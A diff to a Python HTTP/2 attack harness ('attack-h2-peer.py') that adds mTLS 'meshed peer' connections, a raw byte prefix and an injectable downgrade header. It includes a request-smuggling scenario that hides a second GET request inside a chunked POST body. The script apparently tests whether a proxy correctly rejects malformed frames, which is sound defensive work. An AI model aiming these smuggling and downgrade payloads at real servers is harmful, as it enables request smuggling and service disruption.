@@ -6,6 +6,11 @@ did:
 
     /usr/bin/python3 attack-h2-peer.py <host> <port> <scenario> [count]
 
+As a meshed peer (mTLS, then a transport header, then HTTP/2), set ATTACK_TLS_CERT, ATTACK_TLS_KEY
+and ATTACK_TLS_CA (PEM files), ATTACK_TLS_SNI (the server's identity), ATTACK_TLS_ALPN and
+ATTACK_PREFIX_HEX (bytes written before the HTTP/2 preface). ATTACK_EXTRA_HEADER="name: value"
+adds a field to every request (e.g. `l5d-orig-proto: HTTP/1.1`, asking for a downgrade).
+
 Fields: goaway (error code or null), resets ({stream id: error code}), statuses ({stream id:
 status}), eof (the server closed the connection), writeFailed (the server closed while we were
 still writing), sent (frames or streams of the attack that were written before the server cut us
@@ -13,8 +18,10 @@ off), plus anything scenario-specific.
 """
 
 import json
+import os
 import select
 import socket
+import ssl
 import sys
 import time
 
@@ -33,13 +40,29 @@ from hyperframe.frame import (
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CANCEL = 0x8
-AUTHORITY = "h2.attack.test"
+AUTHORITY = os.environ.get("ATTACK_AUTHORITY", "h2.attack.test")
+EXTRA = [tuple(part.strip() for part in os.environ["ATTACK_EXTRA_HEADER"].split(":", 1))] if os.environ.get("ATTACK_EXTRA_HEADER") else []
+
+
+def connect(host, port):
+    sock = socket.create_connection((host, port), timeout=10)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if os.environ.get("ATTACK_TLS_CERT"):
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        context.minimum_version = ssl.TLSVersion.TLSv1_3
+        context.load_cert_chain(os.environ["ATTACK_TLS_CERT"], os.environ["ATTACK_TLS_KEY"])
+        context.load_verify_locations(os.environ["ATTACK_TLS_CA"])
+        context.set_alpn_protocols([os.environ.get("ATTACK_TLS_ALPN", "transport.l5d.io/v1")])
+        sock = context.wrap_socket(sock, server_hostname=os.environ["ATTACK_TLS_SNI"])
+    prefix = os.environ.get("ATTACK_PREFIX_HEX")
+    if prefix:
+        sock.sendall(bytes.fromhex(prefix))
+    return sock
 
 
 class Client:
     def __init__(self, host, port):
-        self.sock = socket.create_connection((host, port), timeout=10)
-        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.sock = connect(host, port)
         self.encoder = Encoder()
         self.decoder = Decoder()
         self.inbox = b""
@@ -60,7 +83,7 @@ class Client:
         try:
             self.sock.sendall(data)
             return True
-        except OSError:
+        except (OSError, ssl.SSLError):
             self.out["writeFailed"] = True
             return False
 
@@ -75,7 +98,7 @@ class Client:
 
     def request(self, stream_id, path, extra=(), end_stream=True):
         fields = [(":method", "GET"), (":scheme", "http"), (":authority", AUTHORITY), (":path", path)]
-        return self.headers(stream_id, fields + list(extra), end_stream=end_stream)
+        return self.headers(stream_id, fields + EXTRA + list(extra), end_stream=end_stream)
 
     def pump(self, seconds, until=None):
         """Reads frames for up to `seconds` of silence, until EOF or `until()` holds."""
@@ -86,12 +109,13 @@ class Client:
             left = deadline - time.monotonic()
             if left <= 0:
                 return
-            ready, _, _ = select.select([self.sock], [], [], left)
+            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending() > 0
+            ready, _, _ = ([self.sock], [], []) if pending else select.select([self.sock], [], [], left)
             if not ready:
                 return
             try:
                 chunk = self.sock.recv(65536)
-            except OSError:
+            except (OSError, ssl.SSLError):
                 chunk = b""
             if not chunk:
                 self.out["eof"] = True
@@ -219,7 +243,7 @@ def window_overflow(c, where):
 def downgrade(c, variant):
     """H2→H1 downgrade smuggling (RFC 9113 §8.2): each request below is malformed and must not be forwarded."""
     smuggled = "GET /smuggled HTTP/1.1\r\nhost: app.attack.test\r\n\r\n"
-    post = [(":method", "POST"), (":scheme", "http"), (":authority", AUTHORITY), (":path", "/downgrade-" + variant)]
+    post = [(":method", "POST"), (":scheme", "http"), (":authority", AUTHORITY), (":path", "/downgrade-" + variant)] + EXTRA
     if variant == "te":
         frames = c.headers(1, post + [("transfer-encoding", "chunked")], end_stream=False)
         body = "0\r\n\r\n" + smuggled
